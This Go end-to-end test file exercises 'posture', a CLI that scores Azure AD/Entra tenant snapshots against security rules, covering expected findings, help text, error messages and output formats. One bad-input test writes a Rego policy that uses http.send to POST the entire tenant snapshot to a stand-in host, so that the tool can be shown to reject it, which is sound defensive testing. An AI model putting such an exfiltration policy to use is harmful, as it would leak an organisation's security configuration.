package main

// End-to-end tests: they build the real posture binary once and run it as a user would, so
// flag parsing, exit codes, stderr formatting and file output are tested as shipped.

import (
	"bufio"
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"testing"
	"time"
)

// postureBin is the binary built by TestMain; tests only read it.
var postureBin string

func TestMain(m *testing.M) {
	os.Exit(buildAndRun(m))
}

// buildAndRun builds the binary into a temporary directory, runs the tests and removes the
// directory again (os.Exit in TestMain would skip a defer).
func buildAndRun(m *testing.M) int {
	dir, err := os.MkdirTemp("", "posture-e2e-")
	if err != nil {
		fmt.Fprintf(os.Stderr, "e2e: create temp dir: %v\n", err)
		return 2
	}
	defer os.RemoveAll(dir)
	postureBin = filepath.Join(dir, "posture")
	build := exec.Command("go", "build", "-o", postureBin, ".")
	build.Stdout, build.Stderr = os.Stderr, os.Stderr
	if err := build.Run(); err != nil {
		fmt.Fprintf(os.Stderr, "e2e: build posture: %v\n", err)
		return 2
	}
	return m.Run()
}

// runResult is what one run of the binary produced.
type runResult struct {
	stdout, stderr string
	code           int
}

// runPosture runs the binary with args; env entries are KEY=VALUE pairs added to (or, with an
// empty value, removed from) the test's environment.
func runPosture(t *testing.T, env map[string]string, args ...string) runResult {
	t.Helper()
	return runPostureIn(t, "", env, args...)
}

// runPostureIn runs the binary as runPosture does, in directory dir ("" is the test's).
func runPostureIn(t *testing.T, dir string, env map[string]string, args ...string) runResult {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
	defer cancel()
	cmd := exec.CommandContext(ctx, postureBin, args...)
	cmd.Dir = dir
	var environ []string
	for _, kv := range os.Environ() {
		if _, set := env[strings.SplitN(kv, "=", 2)[0]]; !set {
			environ = append(environ, kv)
		}
	}
	for k, v := range env {
		if v != "" {
			environ = append(environ, k+"="+v)
		}
	}
	cmd.Env = environ
	var stdout, stderr bytes.Buffer
	cmd.Stdout, cmd.Stderr = &stdout, &stderr
	err := cmd.Run()
	code := 0
	if err != nil {
		var ee *exec.ExitError
		if !errors.As(err, &ee) {
			t.Fatalf("run posture %s: %v", strings.Join(args, " "), err)
		}
		code = ee.ExitCode()
	}
	return runResult{stdout: stdout.String(), stderr: stderr.String(), code: code}
}

// checkResult is the part of the result JSON these tests read.
type checkResult struct {
	SchemaVersion int `json:"schemaVersion"`
	Snapshot      struct {
		SHA256 string `json:"sha256"`
	} `json:"snapshot"`
	Summary  map[string]int `json:"summary"`
	Findings []struct {
		RuleID   string    `json:"ruleId"`
		Status   string    `json:"status"`
		Coverage *coverage `json:"coverage"`
	} `json:"findings"`
}

type coverage struct {
	Covered int `json:"covered"`
	Total   int `json:"total"`
}

func (c *coverage) String() string {
	if c == nil {
		return "—"
	}
	return fmt.Sprintf("%d/%d", c.Covered, c.Total)
}

// expectedRule is one row of a tenant's rule table in testdata/README.md.
type expectedRule struct {
	id, status string
	coverage   *coverage // nil for "—"
}

// tenantDoc is one "## <name>.json — ..." section of testdata/README.md.
type tenantDoc struct {
	name  string // file name without .json
	rules []expectedRule
	// summary is the section's "Summary, all N rules: pass .., fail ..; exit code N." line,
	// nil when it has none.
	summary *expectedSummary
}

// expectedSummary is a tenant's summary line: the number of rules, the count of each status
// it names (by the result's summary key; a status it leaves out counts 0) and the exit code.
type expectedSummary struct {
	rules  int
	counts map[string]int
	code   int
}

var (
	tenantHeading = regexp.MustCompile(`^## (\S+)\.json — `)
	coverageCell  = regexp.MustCompile(`^(\d+)/(\d+)$`)
	tenantSummary = regexp.MustCompile(`^(?:Demo s|S)ummary, all (\d+) rules[^:]*: (.+); exit code (\d+)\.$`)
	summaryCount  = regexp.MustCompile(`^(pass|fail|warn|error|not applicable|excepted) (\d+)$`)
)

// parseSummary reads a tenant's summary line; ok is false when line is not one.
func parseSummary(t *testing.T, where, line string) (s *expectedSummary, ok bool) {
	t.Helper()
	m := tenantSummary.FindStringSubmatch(line)
	if m == nil {
		if strings.Contains(strings.ToLower(line), "summary, all") {
			t.Fatalf("%s: summary line %q; expected \"Summary, all N rules: pass N, fail N, ...; exit code N.\"", where, line)
		}
		return nil, false
	}
	s = &expectedSummary{counts: map[string]int{}}
	s.rules, _ = strconv.Atoi(m[1])
	s.code, _ = strconv.Atoi(m[3])
	for _, part := range strings.Split(m[2], ", ") {
		c := summaryCount.FindStringSubmatch(part)
		if c == nil {
			t.Fatalf("%s: summary count %q; expected a status and a number", where, part)
		}
		key := strings.ReplaceAll(c[1], " ", "_")
		if _, dup := s.counts[key]; dup {
			t.Fatalf("%s: summary names %s twice", where, c[1])
		}
		s.counts[key], _ = strconv.Atoi(c[2])
	}
	return s, true
}

const ruleTableHeader = "| Rule | Status | Coverage | Counting |"

// parseTenantDocs reads the expected results out of the test tenants' README.
func parseTenantDocs(t *testing.T, path string) []tenantDoc {
	t.Helper()
	data, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("read %s: %v", path, err)
	}
	var docs []tenantDoc
	var cur *tenantDoc
	inTable := false
	sc := bufio.NewScanner(bytes.NewReader(data))
	for n := 1; sc.Scan(); n++ {
		line := strings.TrimSpace(sc.Text())
		if strings.HasPrefix(line, "## ") {
			inTable = false
			cur = nil
			if m := tenantHeading.FindStringSubmatch(line); m != nil {
				docs = append(docs, tenantDoc{name: m[1]})
				cur = &docs[len(docs)-1]
			}
			continue
		}
		if cur == nil {
			continue
		}
		if sum, ok := parseSummary(t, fmt.Sprintf("%s:%d", path, n), line); ok {
			if cur.summary != nil {
				t.Fatalf("%s:%d: section %s.json has a second summary line", path, n, cur.name)
			}
			cur.summary = sum
			continue
		}
		if line == ruleTableHeader {
			inTable = true
			continue
		}
		if !inTable {
			continue
		}
		if !strings.HasPrefix(line, "|") {
			inTable = false
			continue
		}
		cells := strings.Split(strings.Trim(line, "|"), "|")
		if len(cells) < 4 {
			t.Fatalf("%s:%d: rule table row has %d cells, want 4", path, n, len(cells))
		}
		if strings.HasPrefix(strings.TrimSpace(cells[0]), "---") {
			continue
		}
		rule := expectedRule{id: strings.Trim(strings.TrimSpace(cells[0]), "`")}
		status := cells[1]
		if i := strings.LastIndex(status, "→"); i >= 0 {
			status = status[i+len("→"):]
		}
		rule.status = strings.Trim(strings.TrimSpace(status), "*`")
		switch cov := strings.TrimSpace(cells[2]); {
		case cov == "—":
		case coverageCell.MatchString(cov):
			m := coverageCell.FindStringSubmatch(cov)
			covered, _ := strconv.Atoi(m[1])
			total, _ := strconv.Atoi(m[2])
			rule.coverage = &coverage{Covered: covered, Total: total}
		default:
			t.Fatalf("%s:%d: coverage %q; expected n/m or —", path, n, cov)
		}
		if rule.id == "" || rule.status == "" {
			t.Fatalf("%s:%d: rule row without rule id or status: %q", path, n, line)
		}
		cur.rules = append(cur.rules, rule)
	}
	if err := sc.Err(); err != nil {
		t.Fatalf("read %s: %v", path, err)
	}
	return docs
}

func TestExpectedFindings(t *testing.T) {
	docs := parseTenantDocs(t, filepath.Join("..", "..", "testdata", "README.md"))
	if len(docs) < 5 {
		t.Fatalf("testdata/README.md: found %d tenant sections with rule tables, want at least 5", len(docs))
	}
	wantCode := map[string]int{"weak": 2, "hardened": 0, "e3-no-p2": 2, "lockout": 1, "contoso": 1}
	for _, doc := range docs {
		t.Run(doc.name, func(t *testing.T) {
			if len(doc.rules) == 0 {
				t.Fatalf("testdata/README.md: section %s.json has no rule table", doc.name)
			}
			code, ok := wantCode[doc.name]
			if !ok {
				t.Fatalf("no expected exit code for tenant %s; add it to the test", doc.name)
			}
			snap := filepath.Join("..", "..", "testdata", "snapshots", doc.name+".json")
			cfg := filepath.Join("..", "..", "testdata", "configs", doc.name+".yaml")
			if doc.name == "contoso" {
				snap = filepath.Join("..", "..", "internal", "demo", "contoso.json")
				cfg = filepath.Join("..", "..", "examples", "demo", "posture.yaml")
			}
			r := runPosture(t, nil, "check", "--snapshot", snap, "--config", cfg, "--format", "json")
			if r.code != code {
				t.Errorf("exit code %d, want %d (stderr: %s)", r.code, code, r.stderr)
			}
			var res checkResult
			if err := json.Unmarshal([]byte(r.stdout), &res); err != nil {
				t.Fatalf("result JSON: %v; stderr: %s", err, r.stderr)
			}
			got := make(map[string]int, len(res.Findings))
			for i, f := range res.Findings {
				got[f.RuleID] = i
			}
			if len(doc.rules) != len(res.Findings) {
				t.Errorf("README documents %d rules, result has %d findings", len(doc.rules), len(res.Findings))
			}
			checkSummary(t, doc, res, r.code)
			for _, want := range doc.rules {
				i, ok := got[want.id]
				if !ok {
					t.Errorf("%s: no finding in the result", want.id)
					continue
				}
				f := res.Findings[i]
				if f.Status != want.status {
					t.Errorf("%s: status %q, want %q", want.id, f.Status, want.status)
				}
				if f.Coverage.String() != want.coverage.String() {
					t.Errorf("%s: coverage %s, want %s", want.id, f.Coverage, want.coverage)
				}
			}
		})
	}
}

// checkSummary checks a tenant's summary line against the result: the number of rules, every
// status count of the result's summary (one the line leaves out must be 0) and the exit code.
func checkSummary(t *testing.T, doc tenantDoc, res checkResult, code int) {
	t.Helper()
	s := doc.summary
	if s == nil {
		t.Errorf("testdata/README.md: section %s.json has no \"Summary, all N rules: ...; exit code N.\" line", doc.name)
		return
	}
	if s.rules != len(res.Findings) {
		t.Errorf("summary line: all %d rules, result has %d findings", s.rules, len(res.Findings))
	}
	if len(res.Summary) == 0 {
		t.Fatal("the result has no summary")
	}
	for status, n := range res.Summary {
		if s.counts[status] != n {
			t.Errorf("summary line: %s %d, result's summary has %d", strings.ReplaceAll(status, "_", " "), s.counts[status], n)
		}
	}
	for status := range s.counts {
		if _, ok := res.Summary[status]; !ok {
			t.Errorf("summary line names %s, which the result's summary does not have", status)
		}
	}
	if s.code != code {
		t.Errorf("summary line: exit code %d, the check exited %d", s.code, code)
	}
}

// TestHelp checks that every command prints its usage once and exits 0.
func TestHelp(t *testing.T) {
	for _, cmd := range []string{"check", "score", "report", "diff", "rules", "test", "init", "version"} {
		t.Run(cmd, func(t *testing.T) {
			r := runPosture(t, nil, cmd, "--help")
			if r.code != 0 {
				t.Errorf("exit code %d, want 0", r.code)
			}
			out := r.stdout + r.stderr
			if n := strings.Count(out, "Usage: posture "+cmd); n != 1 {
				t.Errorf("usage printed %d times, want once:\n%s", n, out)
			}
		})
	}
}

func TestBadInput(t *testing.T) {
	weak, err := os.ReadFile(filepath.Join("..", "..", "testdata", "snapshots", "weak.json"))
	if err != nil {
		t.Fatal(err)
	}
	weakPath := filepath.Join("..", "..", "testdata", "snapshots", "weak.json")
	weakCfgPath := filepath.Join("..", "..", "testdata", "configs", "weak.yaml")
	weakCfg, err := os.ReadFile(weakCfgPath)
	if err != nil {
		t.Fatal(err)
	}

	// Each setup writes its bad input into dir and returns the arguments to run, the file
	// stderr must name ("" when none is involved) and fragments stderr must contain.
	type setup func(t *testing.T, dir string) (args []string, file string, want []string)
	write := func(t *testing.T, path string, data []byte) string {
		t.Helper()
		if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path, data, 0o644); err != nil {
			t.Fatal(err)
		}
		return path
	}
	badSnapshot := func(name string, data func(t *testing.T) []byte, want ...string) setup {
		return func(t *testing.T, dir string) ([]string, string, []string) {
			p := write(t, filepath.Join(dir, name), data(t))
			return []string{"check", "--snapshot", p}, p, want
		}
	}
	withoutLine := func(data []byte, substr string) []byte {
		var out [][]byte
		for _, l := range bytes.Split(data, []byte("\n")) {
			if !bytes.Contains(l, []byte(substr)) {
				out = append(out, l)
			}
		}
		return bytes.Join(out, []byte("\n"))
	}
	orgPolicy := func(name, src string, want ...string) setup {
		return func(t *testing.T, dir string) ([]string, string, []string) {
			p := write(t, filepath.Join(dir, "policies", name), []byte(src))
			return []string{"check", "--snapshot", weakPath, "--config", weakCfgPath,
				"--policy", filepath.Dir(p)}, p, want
		}
	}

	tests := []struct {
		name    string
		setup   setup
		pattern string // optional regexp stderr must match
	}{
		{
			name: "truncated snapshot",
			setup: badSnapshot("truncated.json", func(*testing.T) []byte { return weak[:len(weak)/2] },
				"unexpected end of input"),
			pattern: `truncated\.json:\d+:\d+: `,
		},
		{
			name: "schemaVersion 2",
			setup: badSnapshot("v2.json", func(t *testing.T) []byte {
				v2 := bytes.Replace(weak, []byte(`"schemaVersion": 1`), []byte(`"schemaVersion": 2`), 1)
				if bytes.Equal(v2, weak) {
					t.Fatal(`weak.json has no "schemaVersion": 1 to replace`)
				}
				return v2
			}, "schemaVersion 2 is not supported"),
		},
		{
			name: "missing schemaVersion",
			setup: badSnapshot("noversion.json", func(*testing.T) []byte { return withoutLine(weak, `"schemaVersion"`) },
				"missing schemaVersion"),
		},
		{
			name: "duplicate key",
			setup: badSnapshot("dup.json", func(t *testing.T) []byte {
				// Bob, the second user, gets a second id after his displayName.
				return replaceOnce(t, weak, `"displayName": "Bob Chen",`, `"displayName": "Bob Chen", "id": "someone-else",`)
			}, `: $.entra.users[1]: duplicate key "id"`),
		},
		{
			name: "not UTF-8",
			setup: badSnapshot("latin1.json", func(t *testing.T) []byte {
				return replaceOnce(t, weak, `"displayName": "Carol Diaz"`, "\"displayName\": \"Carol D\xedaz\"")
			}, `: $.entra.users[2].displayName: string is not valid UTF-8 (byte 0xed)`),
		},
		{
			name: "config key typo",
			setup: func(t *testing.T, dir string) ([]string, string, []string) {
				typo := bytes.Replace(weakCfg, []byte("breakGlass:"), []byte("brekGlass:"), 1)
				line := 0
				for i, l := range strings.Split(string(typo), "\n") {
					if strings.HasPrefix(l, "brekGlass:") {
						line = i + 1
					}
				}
				if line == 0 {
					t.Fatal("weak.yaml has no top-level breakGlass: key to misspell")
				}
				p := write(t, filepath.Join(dir, "typo.yaml"), typo)
				return []string{"check", "--snapshot", weakPath, "--config", p}, p,
					[]string{`unknown key "brekGlass"`, fmt.Sprintf("%s:%d:", p, line)}
			},
		},
		{
			name: "rego syntax error",
			setup: orgPolicy("broken.rego",
				"package posture.rules.org.x\n\ndeny contains {\"msg\": \"unterminated} if {\n\ttrue\n}\n"),
			pattern: `broken\.rego:\d+`,
		},
		{
			name: "http.send",
			setup: orgPolicy("exfil.rego", `# METADATA
# title: Sends the snapshot away
# custom:
#   id: org.exfil
#   severity: low
#   level: should
#   remediation: none
package posture.rules.org.exfil

deny contains "sent" if {
	http.send({"method": "POST", "url": "https://example.invalid", "body": input})
}
`, "http.send is not allowed"),
			pattern: `exfil\.rego:\d+`,
		},
		{
			name: "unknown flag",
			setup: func(*testing.T, string) ([]string, string, []string) {
				return []string{"check", "--demo", "--nope"}, "", []string{"--nope"}
			},
		},
		{
			name: "unknown format",
			setup: func(*testing.T, string) ([]string, string, []string) {
				return []string{"check", "--demo", "--format", "xml"}, "", []string{"--format xml: expected one of action-plan, csv, html, json, junit, markdown, ocsf, sarif, text"}
			},
		},
		{
			name: "unknown baseline",
			setup: func(*testing.T, string) ([]string, string, []string) {
				return []string{"check", "--demo", "--baseline", "nosuch"}, "", []string{`"nosuch"`}
			},
		},
		{
			name: "nonexistent snapshot",
			setup: func(t *testing.T, dir string) ([]string, string, []string) {
				p := filepath.Join(dir, "missing.json")
				return []string{"check", "--snapshot", p}, p, nil
			},
		},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			dir := t.TempDir()
			args, file, want := tc.setup(t, dir)
			out := filepath.Join(dir, "out", "result.json")
			if err := os.MkdirAll(filepath.Dir(out), 0o755); err != nil {
				t.Fatal(err)
			}
			args = append(args, "--output", out)
			r := runPosture(t, nil, args...)
			if r.code != 2 {
				t.Errorf("exit code %d, want 2", r.code)
			}
			if r.stdout != "" {
				t.Errorf("stdout not empty: %q", r.stdout)
			}
			stderr := strings.TrimSuffix(r.stderr, "\n")
			if stderr == "" || strings.Contains(stderr, "\n") {
				t.Errorf("stderr is not exactly one line: %q", r.stderr)
			}
			for _, bad := range []string{"panic", "goroutine"} {
				if strings.Contains(r.stderr, bad) {
					t.Errorf("stderr contains %q: %s", bad, r.stderr)
				}
			}
			if file != "" && !strings.Contains(r.stderr, file) {
				t.Errorf("stderr does not name %s: %s", file, r.stderr)
			}
			for _, w := range want {
				if !strings.Contains(r.stderr, w) {
					t.Errorf("stderr does not contain %q: %s", w, r.stderr)
				}
			}
			if tc.pattern != "" && !regexp.MustCompile(tc.pattern).MatchString(r.stderr) {
				t.Errorf("stderr does not match %s: %s", tc.pattern, r.stderr)
			}
			entries, err := os.ReadDir(filepath.Dir(out))
			if err != nil {
				t.Fatal(err)
			}
			for _, e := range entries {
				t.Errorf("output directory not empty after a failed run: %s", e.Name())
			}
		})
	}
}

// replaceOnce replaces old in data with new, once; old must be there.
func replaceOnce(t *testing.T, data []byte, old, new string) []byte {
	t.Helper()
	out := bytes.Replace(data, []byte(old), []byte(new), 1)
	if bytes.Equal(out, data) {
		t.Fatalf("%q is not in the file", old)
	}
	return out
}

var evaluatedAtLine = regexp.MustCompile(`"evaluatedAt":\s*"[^"]*"`)

func TestDemoAndFormats(t *testing.T) {
	t.Run("text", func(t *testing.T) {
		r := runPosture(t, map[string]string{"NO_COLOR": ""}, "check", "--demo")
		if r.code != 1 {
			t.Errorf("exit code %d, want 1 (stderr: %s)", r.code, r.stderr)
		}
		if !strings.Contains(r.stdout, "azure-ad") {
			t.Errorf("text output does not name baseline azure-ad:\n%s", r.stdout)
		}
		if !regexp.MustCompile(`(?m)^\d+ rules: \d+ pass, \d+ fail, \d+ warn, 0 error, `).MatchString(r.stdout) {
			t.Errorf("text output has no summary line \"N rules: ...\" (with no errors on the demo):\n%s", r.stdout)
		}
	})

	t.Run("no colour", func(t *testing.T) {
		tests := []struct {
			name string
			env  map[string]string
			args []string
		}{
			{"not a terminal", map[string]string{"NO_COLOR": "", "TERM": "xterm-256color"}, []string{"check", "--demo"}},
			{"NO_COLOR", map[string]string{"NO_COLOR": "1", "TERM": "xterm-256color"}, []string{"check", "--demo"}},
			{"rules", map[string]string{"NO_COLOR": "", "TERM": "xterm-256color"}, []string{"rules"}},
		}
		for _, tc := range tests {
			t.Run(tc.name, func(t *testing.T) {
				r := runPosture(t, tc.env, tc.args...)
				if r.stdout == "" {
					t.Fatalf("no output (exit %d, stderr: %s)", r.code, r.stderr)
				}
				if strings.Contains(r.stdout+r.stderr, "\x1b[") {
					t.Errorf("output contains ANSI escape sequences:\n%q", r.stdout)
				}
			})
		}
	})

	t.Run("json", func(t *testing.T) {
		dir := t.TempDir()
		var runs [][]byte
		for i := range 2 {
			out := filepath.Join(dir, fmt.Sprintf("result%d.json", i))
			r := runPosture(t, nil, "check", "--demo", "--format", "json", "--output", out)
			if r.code != 1 {
				t.Errorf("run %d: exit code %d, want 1 (stderr: %s)", i, r.code, r.stderr)
			}
			if r.stdout != "" {
				t.Errorf("run %d: stdout not empty with --output: %q", i, r.stdout)
			}
			data, err := os.ReadFile(out)
			if err != nil {
				t.Fatalf("run %d: %v", i, err)
			}
			runs = append(runs, data)
		}
		var res checkResult
		if err := json.Unmarshal(runs[0], &res); err != nil {
			t.Fatalf("result is not valid JSON: %v", err)
		}
		if res.SchemaVersion != 1 {
			t.Errorf("schemaVersion %d, want 1", res.SchemaVersion)
		}
		if !regexp.MustCompile(`^[0-9a-f]{64}$`).MatchString(res.Snapshot.SHA256) {
			t.Errorf("snapshot.sha256 %q is not 64 hex digits", res.Snapshot.SHA256)
		}
		// Every rule of the catalog gives a finding on the demo tenant.
		rules := runPosture(t, nil, "rules", "--format", "json")
		var catalog []json.RawMessage
		if err := json.Unmarshal([]byte(rules.stdout), &catalog); err != nil {
			t.Fatalf("rules --format json: %v", err)
		}
		if len(catalog) < 35 || len(res.Findings) != len(catalog) {
			t.Errorf("%d findings for %d catalog rules, want one per rule (and at least 35 rules)", len(res.Findings), len(catalog))
		}
		if !evaluatedAtLine.Match(runs[0]) {
			t.Errorf("result has no evaluatedAt")
		}
		a := evaluatedAtLine.ReplaceAll(runs[0], []byte(`"evaluatedAt": ""`))
		b := evaluatedAtLine.ReplaceAll(runs[1], []byte(`"evaluatedAt": ""`))
		if !bytes.Equal(a, b) {
			t.Errorf("two runs differ beyond evaluatedAt:\n%s\n---\n%s", a, b)
		}
	})

	t.Run("fail-on none", func(t *testing.T) {
		r := runPosture(t, nil, "check", "--demo", "--fail-on", "none")
		if r.code != 0 {
			t.Errorf("exit code %d, want 0 (stderr: %s)", r.code, r.stderr)
		}
	})

	t.Run("rules json", func(t *testing.T) {
		r := runPosture(t, nil, "rules", "--format", "json")
		if r.code != 0 {
			t.Fatalf("exit code %d, want 0 (stderr: %s)", r.code, r.stderr)
		}
		var rules []map[string]json.RawMessage
		if err := json.Unmarshal([]byte(r.stdout), &rules); err != nil {
			t.Fatalf("rules JSON: %v", err)
		}
		if len(rules) < 7 {
			t.Errorf("%d rules, want at least 7", len(rules))
		}
		seen := map[string]bool{}
		for i, rule := range rules {
			var id string
			_ = json.Unmarshal(rule["id"], &id)
			for _, key := range []string{"id", "title", "severity", "level"} {
				var s string
				if err := json.Unmarshal(rule[key], &s); err != nil || s == "" {
					t.Errorf("rule %d (%s): %s is not a non-empty string: %s", i, id, key, rule[key])
				}
			}
			var baselines []string
			if err := json.Unmarshal(rule["baselines"], &baselines); err != nil || len(baselines) == 0 {
				t.Errorf("rule %d (%s): baselines is not a non-empty list: %s", i, id, rule["baselines"])
			}
			for _, key := range []string{"secureScore", "requires"} {
				var list []string
				if err := json.Unmarshal(rule[key], &list); err != nil || list == nil {
					t.Errorf("rule %d (%s): %s is not a list: %s", i, id, key, rule[key])
				}
			}
			var fw map[string][]string
			if err := json.Unmarshal(rule["frameworks"], &fw); err != nil || fw == nil {
				t.Errorf("rule %d (%s): frameworks is not an object: %s", i, id, rule["frameworks"])
			}
			if seen[id] {
				t.Errorf("rule %s listed twice", id)
			}
			seen[id] = true
		}
	})

	t.Run("version", func(t *testing.T) {
		r := runPosture(t, nil, "version")
		if r.code != 0 {
			t.Errorf("exit code %d, want 0 (stderr: %s)", r.code, r.stderr)
		}
		if !strings.HasPrefix(r.stdout, "posture ") {
			t.Errorf("version output %q does not start with \"posture \"", r.stdout)
		}
	})
}
